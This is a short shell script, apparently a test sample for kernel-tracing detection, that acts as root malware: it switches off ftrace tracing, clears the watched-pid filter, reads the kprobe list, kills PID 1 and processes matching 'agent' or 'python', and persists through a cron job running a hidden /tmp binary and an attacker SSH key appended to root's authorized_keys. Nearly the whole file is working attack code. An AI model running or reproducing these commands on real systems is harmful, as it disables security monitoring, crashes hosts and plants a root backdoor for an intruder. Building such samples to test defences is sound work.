#!/bin/sh
# A root sample that tries to blind kernel tracing before it persists: it switches tracing
# off, empties the watched-pid filter, reads which probes are set, kills everything that
# looks like a monitor (PID 1 included), then installs a cron job and an SSH key.
for dir in /sys/kernel/tracing /sys/kernel/debug/tracing; do
  echo 0 > "$dir/tracing_on" 2>/dev/null && echo "tracing off through $dir"
  echo > "$dir/set_event_pid" 2>/dev/null && echo "pid filter cleared through $dir"
  cat "$dir/kprobe_events" 2>/dev/null && echo "probes read through $dir"
done
echo 0 > /proc/sys/kernel/ftrace_enabled 2>/dev/null
kill -9 1 2>/dev/null
pkill -9 -f agent 2>/dev/null
pkill -9 -f python 2>/dev/null
echo '*/5 * * * * root /tmp/.sysupdate >/dev/null 2>&1' > /etc/cron.d/sysupdate
mkdir -p /root/.ssh
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBlinderKeyForTheTestOnly attacker@c2' >> /root/.ssh/authorized_keys
echo blinder-done
